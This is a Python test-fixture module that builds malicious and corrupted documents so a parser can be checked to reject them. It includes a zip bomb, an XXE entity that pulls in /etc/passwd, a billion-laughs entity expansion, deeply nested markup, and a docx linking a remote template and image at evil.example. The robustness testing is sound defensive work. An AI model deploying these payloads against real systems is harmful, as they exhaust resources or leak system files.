"""Files that mean harm, or were damaged: each is made when it is asked for."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import originals

RELATIONS = "word/_rels/document.xml.rels"


def _plain() -> bytes:
    word = originals.Word()
    word.document.add_paragraph("值班制度", "Title")
    word.document.add_paragraph("值班人员按时到岗，做好记录。")
    return word.data()


def _main(xml: str) -> bytes:
    return originals.with_parts(_plain(), {"word/document.xml": xml})


def _document(body: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document {originals.W}><w:body>{body}</w:body></w:document>'


def zip_bomb() -> bytes:
    """A main part that unpacks to 300 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as stream:
            stream.write(_document("").partition("</w:body>")[0].encode())
            for _ in range(30):
                stream.write(b" " * 10_000_000)
    return out.getvalue()


def many_members() -> bytes:
    """A hundred thousand parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for index in range(100_000):
            archive.writestr(f"word/{index}.xml", "")
    return out.getvalue()


def xxe() -> bytes:
    """A main part that wants a file of the machine in its text."""
    return _main(
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + _document("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>").partition("?>")[2]
    )


def billion_laughs() -> bytes:
    """Entities that grow."""
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return _main(f'<?xml version="1.0"?><!DOCTYPE d [{entities}]>' + _document("<w:p/>&a9;").partition("?>")[2])


def rows(count: int = 10_000) -> bytes:
    """A table of many rows."""
    cell = "<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>"
    return _main(_document(f"<w:tbl>{f'<w:tr>{cell * 4}</w:tr>' * count}</w:tbl>"))


def nested_tables() -> bytes:
    """Tables within tables."""
    inner = "<w:p/>"
    for _ in range(5_000):
        inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"
    return _main(_document(inner))


def deep_html() -> bytes:
    """Elements within elements."""
    return b"<div>" * 100_000 + b"x"


def html_rows() -> bytes:
    """A table of many rows on a page."""
    return ("<table>" + "<tr><td>a<td>b" * 10_000 + "</table>").encode()


def long_line() -> bytes:
    """Two megabytes without an end of line."""
    return ("值班" * 400_000).encode()


def numbers() -> bytes:
    """A text of nothing but what might be numbers."""
    return ("1.1.1.1.1.1.1.1.1 " * 20 + "\n").encode() * 2_000


def binary() -> bytes:
    """No text at all."""
    return bytes(range(256)) * 400


def deep_markdown() -> bytes:
    """Quotes within quotes."""
    return b"> " * 50_000 + b"x"


REFUSED: Mapping[str, Callable[[], bytes]] = {
    "bomb.docx": zip_bomb,
    "members.docx": many_members,
    "xxe.docx": xxe,
    "laughs.docx": billion_laughs,
    "rows.docx": rows,
    "nested.docx": nested_tables,
    "broken.docx": lambda: b"PK\x03\x04" + b"\0" * 5_000,
    "truncated.docx": lambda: _plain()[:-2_000],
    "half.docx": lambda: _plain()[: len(_plain()) // 2],
    "cut.docx": lambda: _main(_document("<w:p><w:r><w:t>x")[:-40]),
    "empty.docx": lambda: b"",
    "no-word.docx": lambda: originals.with_parts(_plain(), {"word/document.xml": "<svg/>"}),
    "half.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 9_000,
    "text.doc": lambda: b"plain",
    "deep.html": deep_html,
    "rows.html": html_rows,
    "deep.md": deep_markdown,
    "binary.txt": binary,
    "long.txt": long_line,
    "blank.txt": lambda: b" \n \n",
}
"""Files of which nothing can come: a clear error is all there should be."""


def huge(path: Path, size: int = 200_000_000) -> Path:
    """A file of 200 MB (sparse)."""
    with path.open("wb") as stream:
        stream.write(b"PK\x03\x04")
        stream.truncate(size)
    return path


def carriers() -> bytes:
    """A document with a macro, an embedded workbook, a linked template and a linked picture; its text is sound."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = (
        f'<Relationship Id="rIdT" Type="{base}/attachedTemplate" Target="http://evil.example/t.dotm" '
        f'TargetMode="External"/><Relationship Id="rIdI" Type="{base}/image" Target="http://evil.example/p.png" '
        'TargetMode="External"/></Relationships>'
    )
    return originals.with_parts(
        _plain(),
        {"word/vbaProject.bin": b"\0" * 100, "word/embeddings/sheet1.xlsx": b"PK"},
        {RELATIONS: ("</Relationships>", links)},
    )
